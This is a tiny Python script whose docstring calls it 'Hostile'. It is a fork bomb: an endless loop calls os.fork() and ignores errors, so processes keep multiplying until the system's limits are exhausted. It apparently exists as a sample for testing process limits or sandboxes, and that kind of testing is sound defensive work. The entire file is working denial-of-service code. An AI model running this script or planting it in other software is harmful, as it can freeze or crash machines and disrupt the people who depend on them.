"""Hostile: as many processes as there is room for, and then some."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
